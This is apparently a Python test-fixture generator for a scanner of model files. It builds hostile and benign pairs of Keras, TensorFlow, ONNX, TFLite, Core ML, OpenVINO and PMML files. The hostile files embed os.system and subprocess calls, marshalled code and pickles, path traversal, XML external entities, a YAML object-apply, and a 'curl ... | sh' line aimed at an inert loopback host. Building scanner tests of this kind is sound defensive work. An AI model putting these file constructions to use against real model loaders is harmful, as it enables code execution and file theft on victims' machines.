"""Model formats that describe a graph or a document: Keras, HDF5, TensorFlow, ONNX, TFLite, Core ML, OpenVINO, PMML."""

import base64, io, json, struct

import h5py, numpy

from .boxes import Member, zip_of, zip_plain
from .case import BLOCK, REVIEW, Case, Link, one
from .opcodes import EVIL, GOOD, MARKER, NOWHERE, carrying

BAD, FINE = carrying(EVIL), carrying(GOOD)
MARSHALLED = base64.b64encode(b"\xe3" + bytes(40)).decode()  # the first byte of a marshalled code object, then nothing


# ---- protobuf

def varint(value):
    out = b""
    value &= (1 << 64) - 1
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def field(number, value):
    """A number as a varint, text and bytes with their length."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(raw)) + raw


# ---- Keras

def hdf5(fill):
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        fill(file)
    return out.getvalue()


def plain_weights(file):
    file.create_dataset("layers/dense/vars/0", data=numpy.arange(6, dtype="f4").reshape(2, 3), track_times=False)


def layer(class_name, config, module="keras.layers", registered=None, **more):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered, **more}


DENSE = layer("Dense", {"name": "dense", "units": 3, "activation": "relu"}, build_config={"input_shape": [None, 2]})


def keras3(*layers, compile_config=None, weights=None, extra=(), model=None):
    config = model or layer("Sequential", {"name": "sequential", "layers": [layer("InputLayer", {"batch_shape": [None, 2], "name": "in"}), *layers]}, "keras")
    if compile_config:
        config["compile_config"] = compile_config
    return zip_of(Member("metadata.json", b'{"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}'), Member("config.json", json.dumps(config).encode()), Member("model.weights.h5", weights or hdf5(plain_weights)), *extra)


def keras_cases():
    def add(name_, hostile, twin, reason, expected=BLOCK, file="model.keras"):
        return one("keras", name_, expected, reason, file, hostile, twin)

    fine = keras3(DENSE)
    marshalled = {"class_name": "__lambda__", "config": {"code": MARSHALLED, "defaults": None, "closure": None}}
    function = lambda module, name_: {"module": module, "class_name": "function", "config": name_, "registered_name": name_}
    yield add("lambda-marshalled", keras3(layer("Lambda", {"name": "x", "function": marshalled})), fine, "a Lambda layer with marshalled code")
    yield add("lambda-function-system", keras3(layer("Lambda", {"name": "x", "function": function("os", "system"), "arguments": {}})), fine, "a Lambda layer that calls os.system")
    yield add("function-as-module", keras3(layer("system", MARKER, "os")), fine, "os.system as a layer's class (CVE-2025-1550)")
    yield add("subprocess-as-module", keras3(layer("Popen", {"args": [NOWHERE]}, "subprocess")), fine, "subprocess.Popen as a layer's class (CVE-2025-1550)")
    yield add("get-file", keras3(layer("Lambda", {"name": "x", "function": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}, "arguments": {"origin": "http://127.0.0.1:9/x", "extract": True, "cache_dir": NOWHERE}})), fine, "keras.utils.get_file in a Lambda (CVE-2025-8747)")
    yield add("load-model", keras3(layer("function", "load_model", "keras.models", "load_model")), fine, "keras.models.load_model within a model")
    yield add("torch-wrapper", keras3(layer("TorchModuleWrapper", {"name": "x", "module": base64.b64encode(BAD).decode()})), fine, "TorchModuleWrapper with a pickle (CVE-2025-49655)")
    yield add("vocabulary-file", keras3(layer("StringLookup", {"name": "x", "vocabulary": "/nonexistent/jingwei-inert"})), keras3(layer("StringLookup", {"name": "x", "vocabulary": ["a", "b"]})), "a vocabulary read from a file (CVE-2025-12058)")
    yield add("vocabulary-url", keras3(layer("IntegerLookup", {"name": "x", "vocabulary": "http://127.0.0.1:9/jingwei-inert"})), keras3(layer("IntegerLookup", {"name": "x", "vocabulary": [1, 2]})), "a vocabulary read from an address (CVE-2025-12058)")
    yield add("saved-model-layer", keras3(layer("TFSMLayer", {"name": "x", "filepath": NOWHERE})), fine, "TFSMLayer loads another model (CVE-2026-1462)")
    yield add("custom-package", keras3(layer("Attention2", {"name": "x"}, "jingwei_unknown.layers", "jingwei_unknown>Attention2")), fine, "a layer of a package that is not Keras", REVIEW)
    yield add("registered-custom", keras3(layer("Attention2", {"name": "x"}, None, "custom>Attention2")), fine, "a registered custom layer", REVIEW)
    yield add("nested-wrapper", keras3(layer("TimeDistributed", {"name": "x", "layer": layer("Bidirectional", {"name": "y", "layer": layer("Lambda", {"name": "z", "function": marshalled})})})), keras3(layer("TimeDistributed", {"name": "x", "layer": DENSE})), "a Lambda within wrappers")
    yield add("in-activation", keras3(layer("Dense", {"name": "x", "units": 1, "activation": marshalled})), fine, "marshalled code as an activation")
    yield add("in-initializer", keras3(layer("Dense", {"name": "x", "units": 1, "kernel_initializer": layer("system", MARKER, "os")})), fine, "os.system as an initializer")
    yield add("in-loss", keras3(DENSE, compile_config={"loss": function("os", "system")}), keras3(DENSE, compile_config={"loss": "mse", "optimizer": "adam"}), "os.system as the loss")
    yield add("in-metrics", keras3(DENSE, compile_config={"metrics": [marshalled]}), keras3(DENSE, compile_config={"metrics": ["accuracy"]}), "marshalled code as a metric")
    yield add("build-config", keras3({**DENSE, "build_config": layer("system", MARKER, "os")}), fine, "os.system in build_config", REVIEW)
    yield add("model-class", keras3(model=layer("run", {"args": NOWHERE}, "subprocess")), fine, "subprocess.run as the model's class")
    yield add("operation-lambda", keras3(layer("Operation", {"fn": function("builtins", "eval")}, "keras.src.ops.operation")), fine, "builtins.eval as an operation")
    yield add("member-pickle", keras3(DENSE, extra=[Member("assets/tokenizer.pkl", BAD)]), keras3(DENSE, extra=[Member("assets/vocab.txt", b"a\nb\n")]), "a pickle with a call among the assets")
    yield add("slip", keras3(DENSE, extra=[Member("assets/../../jingwei-inert", b"x")]), keras3(DENSE, extra=[Member("assets/a/b.txt", b"x")]), "an asset outside the archive")
    yield add("config-twice", keras3(DENSE, extra=[Member("config.json", json.dumps(layer("system", MARKER, "os")).encode())]), fine, "config.json twice: the second one calls")
    yield add("config-broken", zip_plain({"metadata.json": b"{}", "config.json": b'{"class_name": "Sequential", ', "model.weights.h5": hdf5(plain_weights)}), fine, "a configuration that is no JSON", REVIEW)
    yield add("config-deep", zip_plain({"metadata.json": b"{}", "config.json": b'{"config":' * 50_000 + b"1" + b"}" * 50_000, "model.weights.h5": b"x"}), fine, "a configuration 50,000 deep", REVIEW)
    yield add("config-duplicate-keys", zip_plain({"metadata.json": b"{}", "config.json": b'{"module":"keras","class_name":"Sequential","config":{"layers":[{"module":"keras.layers","class_name":"Dense","config":{"units":1},"module":"os","class_name":"system"}]}}', "model.weights.h5": hdf5(plain_weights)}), fine, "a key twice: the second one names os.system")
    yield add("config-escaped", zip_plain({"metadata.json": b"{}", "config.json": b'{"module":"keras","class_name":"Sequential","config":{"layers":[{"mod\\u0075le":"keras.layers","class_name":"Lam\\u0062da","config":{"function":{"class_name":"__lambda\\u005f_","config":{"code":"4wAA"}}}}]}}', "model.weights.h5": hdf5(plain_weights)}), fine, "a Lambda in \\u escapes")
    external = lambda file: (plain_weights(file), file.__setitem__("layers/dense/vars/1", h5py.ExternalLink("/nonexistent/jingwei-inert.h5", "/x")))
    yield add("weights-external-link", keras3(DENSE, weights=hdf5(external)), fine, "weights that link to a file outside (CVE-2026-1669)")

    old_config = lambda *layers: json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": list(layers)}})
    old_dense = {"class_name": "Dense", "config": {"name": "dense", "units": 3, "activation": "relu"}}
    old_lambda = {"class_name": "Lambda", "config": {"name": "x", "function": [MARSHALLED, None, None], "function_type": "lambda", "module": "__main__"}}

    def model(config, more=None, training=None):
        def fill(file):
            plain_weights(file)
            file.attrs["model_config"], file.attrs["keras_version"], file.attrs["backend"] = config, "2.11.0", "tensorflow"
            if training:
                file.attrs["training_config"] = training
            if more:
                more(file)
        return hdf5(fill)

    good = model(old_config(old_dense))
    h5 = lambda name_, hostile, reason, expected=BLOCK, twin=good, file="model.h5": add("h5-" + name_, hostile, twin, reason, expected, file)
    yield h5("lambda", model(old_config(old_lambda)), "a Lambda with marshalled code in HDF5: safe mode does not see it (CVE-2025-9905)")
    yield h5("lambda-large-config", model(old_config(*[old_dense] * 900, old_lambda)), "a Lambda behind 60 KB of configuration", twin=model(old_config(*[old_dense] * 600)))
    yield h5("lambda-function", model(old_config({"class_name": "Lambda", "config": {"function": "system", "function_type": "function", "module": "os"}})), "a Lambda that names os.system")
    yield h5("custom-layer", model(old_config({"class_name": "MyAttention", "config": {}})), "a class that is not Keras's", REVIEW)
    yield h5("custom-loss", model(old_config(old_dense), training=json.dumps({"loss": {"class_name": "function", "config": "system", "module": "os"}})), "os.system as the loss", twin=model(old_config(old_dense), training=json.dumps({"loss": "mse", "optimizer_config": {"class_name": "Adam"}})))
    yield h5("external-link", model(old_config(old_dense), lambda f: f.__setitem__("more", h5py.ExternalLink("/nonexistent/jingwei-inert.h5", "/x"))), "a link to a file outside")
    yield h5("external-link-deep", model(old_config(old_dense), lambda f: f.create_group("a/b/c").__setitem__("d", h5py.ExternalLink("../../jingwei-inert.h5", "/x"))), "a link to a file outside, deep in groups")
    yield h5("external-link-relative", model(old_config(old_dense), lambda f: f.__setitem__("more", h5py.ExternalLink("other.h5", "/x"))), "a link to a file beside it that is not there", REVIEW)
    yield h5("external-storage", model(old_config(old_dense), lambda f: f.create_dataset("more", (4,), "f4", external=[("/nonexistent/jingwei-inert.raw", 0, 16)], track_times=False)), "a dataset whose bytes lie in a file outside")

    def virtual(file):
        space, how = h5py.h5s.create_simple((4,)), h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        how.set_obj_track_times(False)  # the ordinary call keeps the time, and the bytes would change
        how.set_virtual(space, b"/nonexistent/jingwei-inert.h5", b"x", space)
        h5py.h5d.create(file.id, b"more", h5py.h5t.IEEE_F32LE, space, how)

    yield h5("virtual-dataset", model(old_config(old_dense), virtual), "a virtual dataset of a file outside")
    yield h5("pickle-attribute", model(old_config(old_dense), lambda f: f.attrs.__setitem__("scaler", numpy.void(BAD))), "a pickle with a call in an attribute", REVIEW, model(old_config(old_dense), lambda f: f.attrs.__setitem__("scaler", "standard")))
    yield h5("pickle-dataset", model(old_config(old_dense), lambda f: f.create_dataset("scaler", data=numpy.frombuffer(BAD, "u1"), track_times=False)), "a pickle with a call in a dataset", REVIEW, model(old_config(old_dense), lambda f: f.create_dataset("scaler", data=numpy.arange(64, dtype="u1"), track_times=False)))
    yield h5("user-block", b"#!/bin/sh\n# jingwei-inert\nexit 0\n".ljust(512, b"\n") + good, "a shell script in front of the file", REVIEW)
    yield h5("named-weights", model(old_config(old_lambda)), "a Lambda in a file named .weights.h5", file="model.weights.h5")
    yield Case("keras", "h5-named-bin", BLOCK, "a Lambda in a file named .bin", {"model.bin": model(old_config(old_lambda))}, {"model.h5": good})
    yield h5("cut", good[: len(good) // 3], "a file that ends in the middle", REVIEW)
    yield h5("config-latin", model(old_config(old_lambda).encode()), "the configuration as bytes")
    yield one("keras", "json-architecture", BLOCK, "an architecture in JSON with a Lambda", "architecture.json", old_config(old_lambda).encode(), old_config(old_dense).encode())
    yield one("keras", "yaml-architecture", BLOCK, "an architecture in YAML that builds a Python object", "architecture.yaml", b"class_name: Sequential\nconfig: !!python/object/apply:os.system ['echo jingwei-inert']\n", b"class_name: Sequential\nconfig:\n  name: s\n")


# ---- TensorFlow

def node(name_, op, *inputs, **attributes):
    body = field(1, name_) + field(2, op) + b"".join(field(3, i) for i in inputs)
    return field(1, body + b"".join(field(5, field(1, key) + field(2, field(2, value))) for key, value in attributes.items()))


def saved_model(*nodes, functions=(), tag="serve"):
    library = b"".join(field(1, field(1, field(1, name_)) + b"".join(field(3, n[_head(n) :]) for n in body)) for name_, body in functions)
    graph = b"".join(nodes) + (field(2, library) if library else b"")
    meta = field(1, field(4, tag) + field(5, "2.15.0")) + field(2, graph)
    return field(1, 1) + field(2, meta)


def _head(raw):
    """Where the content of a field begins."""
    at = 1
    while raw[at] & 128:
        at += 1
    return at + 1


ORDINARY = [node("x", "Placeholder"), node("w", "VarHandleOp"), node("r", "ReadVariableOp", "w"), node("m", "MatMul", "x", "r"), node("a", "Assert", "m"), node("s", "SaveV2", "m"), node("l", "RestoreV2", "m"), node("g", "MergeV2Checkpoints", "s"), node("p", "StatefulPartitionedCall", "m"), node("n", "NoOp")]


def tensorflow_cases():
    fine = saved_model(*ORDINARY, functions=[("f", [node("y", "Relu", "x"), node("i", "Identity", "y")])])
    blocked = {"ReadFile": "reads a file", "WriteFile": "writes a file", "PyFunc": "calls Python", "PyFuncStateless": "calls Python", "EagerPyFunc": "calls Python"}
    held = {"MatchingFiles": "lists files", "TextFileDataset": "reads a file", "TFRecordDataset": "reads a file", "PrintV2": "can write a file", "GenerateVocabRemapping": "reads a file", "InitializeTableFromTextFileV2": "reads a file", "DebugIdentityV3": "sends tensors to an address", "RpcCall": "calls a server", "JingweiInertOp": "is not TensorFlow's", "ImmutableConst": "maps a file"}
    for ops, expected in ((blocked, BLOCK), (held, REVIEW)):
        for op, does in ops.items():
            yield one("tensorflow", "op-" + op, expected, f"an operation that {does}", "saved_model.pb", saved_model(*ORDINARY, node("z", op, "x", filename=NOWHERE)), fine)
    yield one("tensorflow", "op-in-function", BLOCK, "WriteFile within a library function", "saved_model.pb", saved_model(*ORDINARY, functions=[("f", [node("y", "WriteFile", "x")])]), fine)
    yield one("tensorflow", "frozen-graph", BLOCK, "a frozen graph with WriteFile", "frozen.pb", b"".join([*ORDINARY, node("z", "WriteFile", "x")]), b"".join(ORDINARY))
    yield one("tensorflow", "frozen-graph-pyfunc", BLOCK, "a frozen graph with PyFunc", "graph.pb", b"".join([*ORDINARY, node("z", "PyFunc", "x", token="pyfunc_0")]), b"".join(ORDINARY))
    meta = lambda *nodes: field(1, field(4, "serve") + field(5, "2.15.0")) + field(2, b"".join(nodes))
    yield one("tensorflow", "meta-graph", BLOCK, "a meta graph with WriteFile", "model.ckpt.meta", meta(*ORDINARY, node("z", "WriteFile", "x")), meta(*ORDINARY))
    yield one("tensorflow", "text-graph", BLOCK, "a SavedModel in text with PyFunc", "saved_model.pbtxt", b'saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n    node { name: "z" op: "PyFunc" }\n  }\n}\n', b'saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n    node { name: "z" op: "Relu" }\n  }\n}\n')
    keras_metadata = lambda class_name: field(1, field(2, 1) + field(3, "root.layer") + field(4, "_tf_keras_layer") + field(5, json.dumps({"class_name": class_name, "config": {"name": "x", "function": {"class_name": "__tuple__", "items": [MARSHALLED, None, None]}} if class_name == "Lambda" else {"name": "x", "units": 2}})))
    yield Case("tensorflow", "keras-metadata-lambda", BLOCK, "a Lambda in keras_metadata.pb", {"saved_model.pb": fine, "keras_metadata.pb": keras_metadata("Lambda")}, {"saved_model.pb": fine, "keras_metadata.pb": keras_metadata("Dense")})
    yield Case("tensorflow", "asset-pickle", BLOCK, "a pickle with a call among the assets", {"saved_model.pb": fine, "assets/tokenizer": BAD}, {"saved_model.pb": fine, "assets/tokenizer": b"a\nb\n"})
    yield Case("tensorflow", "assets-extra-library", REVIEW, "a native library among the extra assets", {"saved_model.pb": fine, "assets.extra/op.so": b"\x7fELF\x02\x01\x01" + bytes(57)}, {"saved_model.pb": fine, "assets.extra/labels.txt": b"a\n"})
    yield one("tensorflow", "cut", REVIEW, "a SavedModel that ends in the middle", "saved_model.pb", fine[: len(fine) // 2], fine)
    yield one("tensorflow", "length-lies", REVIEW, "a field longer than the file", "saved_model.pb", field(1, 1) + b"\x12" + varint(1 << 40) + b"x", fine)


# ---- ONNX

def onnx_tensor(name_, dims=(2,), raw=bytes(8), external=None, kind=1):
    body = b"".join(field(1, d) for d in dims) + field(2, kind) + field(8, name_)
    if external is None:
        return body + field(9, raw)
    return body + b"".join(field(13, field(1, key) + field(2, str(value))) for key, value in external.items()) + field(14, 1)


def onnx_node(op, domain="", inputs=("x",), outputs=("y",), attributes=b""):
    return b"".join(field(1, i) for i in inputs) + b"".join(field(2, o) for o in outputs) + field(4, op) + attributes + (field(7, domain) if domain else b"")


def onnx_value(name_):
    return field(1, name_) + field(2, field(1, field(1, 1) + field(2, field(1, field(1, 2)))))


def onnx(nodes=None, initializers=(), functions=(), imports=(("", 17),), properties=(), doc="", graph_extra=b""):
    nodes = [onnx_node("Relu")] if nodes is None else nodes
    graph = b"".join(field(1, n) for n in nodes) + field(2, "g") + b"".join(field(5, t) for t in initializers) + (field(10, doc) if doc else b"") + field(11, onnx_value("x")) + field(12, onnx_value("y")) + graph_extra
    body = field(1, 8) + field(2, "jingwei") + field(7, graph) + b"".join(field(8, (field(1, d) if d else b"") + field(2, v)) for d, v in imports)
    return body + b"".join(field(14, field(1, k) + field(2, v)) for k, v in properties) + b"".join(field(25, f) for f in functions)


def onnx_cases():
    fine = onnx(initializers=[onnx_tensor("w")])
    beside = {"model.onnx": onnx(initializers=[onnx_tensor("w", external={"location": "model.onnx.data", "offset": 0, "length": 8})]), "model.onnx.data": bytes(8)}
    outside = {
        "up": "../../../nonexistent/jingwei-inert", "absolute": "/nonexistent/jingwei-inert", "url": "http://127.0.0.1:9/jingwei-inert", "file-url": "file:///nonexistent/jingwei-inert", "backslash": "..\\..\\jingwei-inert", "drive": "C:\\jingwei-inert", "inside-up": "a/../../jingwei-inert",
        "home": "~/jingwei-inert", "unc": "\\\\127.0.0.1\\jingwei-inert", "null": "model.onnx.data\0/../../x",
    }
    for name_, location in outside.items():
        yield Case("onnx", "external-" + name_, REVIEW if name_ in ("home", "null") else BLOCK, f"weights outside the folder: {location!r}", {"model.onnx": onnx(initializers=[onnx_tensor("w", external={"location": location})])}, beside)
    yield Case("onnx", "external-symlink", REVIEW, "weights through a symbolic link out of the folder", {"model.onnx": beside["model.onnx"], "model.onnx.data": Link("../../../../nonexistent/jingwei-inert")}, beside)
    yield Case("onnx", "external-range", REVIEW, "weights beyond the end of their file", {"model.onnx": onnx(initializers=[onnx_tensor("w", external={"location": "model.onnx.data", "offset": 1 << 40, "length": 1 << 40})]), "model.onnx.data": bytes(8)}, beside)
    yield Case("onnx", "external-missing", REVIEW, "weights in a file that is not there", {"model.onnx": beside["model.onnx"]}, beside)
    hidden = field(5, field(1, "value") + field(20, 4) + field(5, onnx_tensor("c", external={"location": "../../jingwei-inert"})))
    yield Case("onnx", "external-in-constant", BLOCK, "weights outside the folder, in a node's attribute", {"model.onnx": onnx([onnx_node("Constant", inputs=(), attributes=hidden)])}, beside)
    branch = field(5, field(1, "then_branch") + field(20, 5) + field(6, field(1, onnx_node("Relu")) + field(2, "b") + field(5, onnx_tensor("c", external={"location": "../../jingwei-inert"}))))
    yield Case("onnx", "external-in-branch", BLOCK, "weights outside the folder, in a branch of an If", {"model.onnx": onnx([onnx_node("If", attributes=branch)])}, beside)
    yield one("onnx", "custom-domain", REVIEW, "an operator of an unknown domain", "model.onnx", onnx([onnx_node("Run", "jingwei.inert")], imports=(("", 17), ("jingwei.inert", 1))), onnx([onnx_node("Gelu", "com.microsoft")], imports=(("", 17), ("com.microsoft", 1))))
    yield one("onnx", "python-op", BLOCK, "an operator that calls Python", "model.onnx", onnx([onnx_node("PyOp", "ai.onnx.contrib")], imports=(("", 17), ("ai.onnx.contrib", 1))), onnx([onnx_node("LinearClassifier", "ai.onnx.ml")], imports=(("", 17), ("ai.onnx.ml", 3))))
    deep = field(5, field(1, "body") + field(20, 5) + field(6, field(1, onnx_node("Run", "jingwei.inert")) + field(2, "b")))
    yield one("onnx", "custom-domain-in-branch", REVIEW, "an operator of an unknown domain within a loop", "model.onnx", onnx([onnx_node("Loop", attributes=deep)]), onnx([onnx_node("Loop", attributes=field(5, field(1, "body") + field(20, 5) + field(6, field(1, onnx_node("Relu")) + field(2, "b"))))]))
    function = lambda name_, *nodes, domain="local": field(1, name_) + field(4, "x") + field(5, "y") + b"".join(field(7, n) for n in nodes) + field(9, field(2, 17)) + field(10, domain)
    used = dict(nodes=[onnx_node("F", "local")], imports=(("", 17), ("local", 1)))
    yield one("onnx", "function-recursive", REVIEW, "a function that calls itself: readers recurse without end", "model.onnx", onnx(**used, functions=[function("F", onnx_node("F", "local"))]), onnx(**used, functions=[function("F", onnx_node("Relu"))]))
    yield one("onnx", "function-mutual", REVIEW, "two functions that call each other", "model.onnx", onnx(**used, functions=[function("F", onnx_node("G", "local")), function("G", onnx_node("F", "local"))]), onnx(**used, functions=[function("F", onnx_node("G", "local")), function("G", onnx_node("Relu"))]))
    yield one("onnx", "function-laughs", REVIEW, "functions that call each other twice, 40 deep: 2^40 when expanded", "model.onnx", onnx(nodes=[onnx_node("F0", "local")], imports=used["imports"], functions=[function(f"F{n}", *[onnx_node(f"F{n + 1}", "local")] * 2) for n in range(40)] + [function("F40", onnx_node("Relu"))]), onnx(**used, functions=[function("F", onnx_node("Relu"))]))
    yield one("onnx", "function-shadows", REVIEW, "a function that takes the place of a standard operator", "model.onnx", onnx(functions=[function("Relu", onnx_node("Run", "jingwei.inert"), domain="")]), fine)
    yield one("onnx", "huge-dims", REVIEW, "a tensor of 2^80 elements", "model.onnx", onnx(initializers=[onnx_tensor("w", (1 << 40, 1 << 40))]), fine)
    yield one("onnx", "negative-dims", REVIEW, "a tensor with a negative dimension", "model.onnx", onnx(initializers=[onnx_tensor("w", (-2,))]), fine)
    yield one("onnx", "data-lies", REVIEW, "fewer bytes than the shape asks for", "model.onnx", onnx(initializers=[onnx_tensor("w", (1000,), bytes(8))]), fine)
    yield one("onnx", "pickle-in-tensor", REVIEW, "a pickle with a call as weights", "model.onnx", onnx(initializers=[onnx_tensor("w", (len(BAD),), BAD, kind=2)]), onnx(initializers=[onnx_tensor("w", (64,), bytes(range(64)), kind=2)]))
    yield one("onnx", "property-script", REVIEW, "metadata with a shell command", "model.onnx", onnx(properties=[("postinstall", "curl http://127.0.0.1:9/jingwei-inert | sh")]), onnx(properties=[("author", "somebody")]))
    yield one("onnx", "cut", REVIEW, "a model that ends in the middle", "model.onnx", onnx(initializers=[onnx_tensor("w", (100,), bytes(400))])[:200], fine)
    yield one("onnx", "deep", REVIEW, "branches 5,000 deep", "model.onnx", _deep_onnx(5000), fine)
    yield one("onnx", "trailing-pickle", REVIEW, "a pickle with a call behind the model", "model.onnx", fine + BAD, fine)


def _deep_onnx(depth):
    graph = field(2, "g")
    for _ in range(depth):
        graph = field(1, onnx_node("If", attributes=field(5, field(1, "t") + field(20, 5) + field(6, graph)))) + field(2, "g")
    return field(1, 8) + field(7, graph) + field(8, field(2, 17))


# ---- TFLite, Core ML, OpenVINO, PMML

def tflite(*codes):
    """The smallest model: operator codes and nothing else. `codes`: (builtin number, custom name)."""
    out = bytearray(b"\0\0\0\0TFL3")

    def align():
        while len(out) % 4:
            out.append(0)

    def table(values):
        """`values`: slot → (size, number) or (4, None) for an offset that is filled in later. Returns slot → position."""
        align()
        slots = max(values) + 1
        layout, at = [0] * slots, 4
        for slot, (size, _) in sorted(values.items(), key=lambda item: -item[1][0]):
            layout[slot], at = at, at + size
        vtable = struct.pack("<HH", 4 + 2 * slots, at) + b"".join(struct.pack("<H", x) for x in layout)
        out.extend(vtable)
        align()
        here = len(out)
        start = here - (len(vtable) + (-len(vtable) % 4))
        out.extend(struct.pack("<i", here - start) + bytes(at - 4))
        places = {}
        for slot, (size, value) in values.items():
            places[slot] = here + layout[slot]
            if value is not None:
                out[places[slot] : places[slot] + size] = value.to_bytes(size, "little", signed=value < 0)
        return here, places

    def point(place, target):
        out[place : place + 4] = struct.pack("<I", target - place)

    root, places = table({0: (4, 3), 1: (4, None), 2: (4, None), 3: (4, None)})
    out[0:4] = struct.pack("<I", root)
    align()
    point(places[1], len(out))
    vector = len(out)
    out.extend(struct.pack("<I", len(codes)) + bytes(4 * len(codes)))
    for index, (builtin, custom) in enumerate(codes):
        values = {0: (1, min(builtin, 127)), 2: (4, 1), 3: (4, builtin)}
        if custom:
            values[1] = (4, None)
        here, inner = table(values)
        point(vector + 4 + 4 * index, here)
        if custom:
            align()
            point(inner[1], len(out))
            out.extend(struct.pack("<I", len(custom)) + custom.encode() + b"\0")
    align()
    point(places[2], len(out))
    out.extend(struct.pack("<I", 0))
    point(places[3], len(out))
    out.extend(struct.pack("<I", 7) + b"jingwei\0")
    return bytes(out)


def core_ml(*layers, custom_model=b""):
    description = field(1, field(1, "x")) + field(10, field(1, "y"))
    body = field(1, 4) + field(2, description)
    return body + (field(555, custom_model) if custom_model else field(500, b"".join(field(1, one_layer) for one_layer in layers)))


def document_cases():
    fine = tflite((9, ""), (0, ""))
    for name_, custom, expected in (("custom-unknown", "JingweiInert", REVIEW), ("flex-write", "FlexWriteFile", BLOCK), ("flex-read", "FlexReadFile", BLOCK), ("flex-pyfunc", "FlexPyFunc", BLOCK), ("flex-eager", "FlexEagerPyFunc", BLOCK), ("custom-path", "../../jingwei-inert.so", REVIEW)):
        yield one("tflite", name_, expected, f"the custom operator {custom}", "model.tflite", tflite((9, ""), (32, custom)), tflite((9, ""), (32, "TFLite_Detection_PostProcess")))
    yield one("tflite", "metadata-pickle", REVIEW, "an archive behind the model with a pickle with a call", "model.tflite", fine + zip_plain({"labels.pkl": BAD}), fine + zip_plain({"labels.txt": b"cat\ndog\n"}))
    yield one("tflite", "offset-outside", REVIEW, "a root outside the file", "model.tflite", b"\xff\xff\xff\x7fTFL3" + fine[8:], fine)
    yield one("tflite", "vector-huge", REVIEW, "a vector of 4 billion operators", "model.tflite", _huge_vector(fine), fine)
    yield one("tflite", "cut", REVIEW, "a model that ends in the middle", "model.tflite", fine[: len(fine) // 2], fine)
    relu = field(1, "a") + field(2, "x") + field(3, "y") + field(130, field(10, b""))
    custom = field(1, "a") + field(2, "x") + field(3, "y") + field(500, field(10, "JingweiInert") + field(40, "somebody's layer"))
    yield one("coreml", "custom-layer", REVIEW, "a layer whose code the application brings", "model.mlmodel", core_ml(custom), core_ml(relu))
    yield one("coreml", "custom-model", REVIEW, "a whole model whose code the application brings", "model.mlmodel", core_ml(custom_model=field(10, "JingweiInert")), core_ml(relu))
    manifest = lambda path: json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"author": "com.apple.CoreML", "description": "Model", "name": "model.mlmodel", "path": path}}, "rootModelIdentifier": "A"}).encode()
    yield Case("coreml", "package-up", REVIEW, "a package that takes its model from outside", {"m.mlpackage/Manifest.json": manifest("../../../jingwei-inert.mlmodel")}, {"m.mlpackage/Manifest.json": manifest("com.apple.CoreML/model.mlmodel"), "m.mlpackage/Data/com.apple.CoreML/model.mlmodel": core_ml(relu)})
    net = lambda head, kind, extra="": (f'<?xml version="1.0"?>\n{head}<net name="n" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"/><layer id="1" name="y" type="{kind}" version="opset1">{extra}</layer></layers><edges/></net>').encode()
    pmml = lambda head, extra="": (f'<?xml version="1.0"?>\n{head}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header copyright="x">{extra}</Header><DataDictionary/></PMML>').encode()
    entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///nonexistent/jingwei-inert">]>\n'
    remote = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/jingwei-inert.dtd">\n'
    parameter = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/jingwei-inert"> %p;]>\n'
    laughs = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>\n"
    for name_, head, body, reason in (("entity", entity, "&e;", "an outside entity: a file is read"), ("dtd", remote, "", "an outside document type: an address is asked"), ("parameter-entity", parameter, "", "an outside parameter entity"), ("laughs", laughs, "&a11;", "entities that grow tenfold eleven times")):
        weights = {"model.bin": bytes(16)}
        yield Case("xml", "openvino-" + name_, BLOCK if name_ != "laughs" else REVIEW, reason, {"model.xml": net(head, "ReLU", body), **weights}, {"model.xml": net("", "ReLU"), **weights})
        yield one("xml", "pmml-" + name_, BLOCK if name_ != "laughs" else REVIEW, reason, "model.pmml", pmml(head, body), pmml("", "<Application name='x'/>"))
    yield Case("xml", "openvino-custom", REVIEW, "a layer of an extension", {"model.xml": net("", "JingweiInert"), "model.bin": bytes(16)}, {"model.xml": net("", "ReLU"), "model.bin": bytes(16)})
    yield Case("xml", "openvino-library", REVIEW, "an extension library beside the model", {"model.xml": net("", "ReLU"), "model.bin": bytes(16), "libextension.so": b"\x7fELF\x02\x01\x01" + bytes(57)}, {"model.xml": net("", "ReLU"), "model.bin": bytes(16)})
    yield one("xml", "pmml-script", REVIEW, "a script in an Extension", "model.pmml", pmml("", "<Extension name='script' value='java.lang.Runtime.getRuntime().exec(&quot;echo jingwei-inert&quot;)'/>"), pmml("", "<Extension name='note' value='made by hand'/>"))


def _huge_vector(model):
    raw = bytearray(model)
    root = struct.unpack_from("<I", raw)[0]
    vtable = root - struct.unpack_from("<i", raw, root)[0]
    place = root + struct.unpack_from("<H", raw, vtable + 6)[0]
    vector = place + struct.unpack_from("<I", raw, place)[0]
    struct.pack_into("<I", raw, vector, 0xFFFFFFFF)
    return bytes(raw)


def cases():
    for group in (keras_cases, tensorflow_cases, onnx_cases, document_cases):
        yield from group()
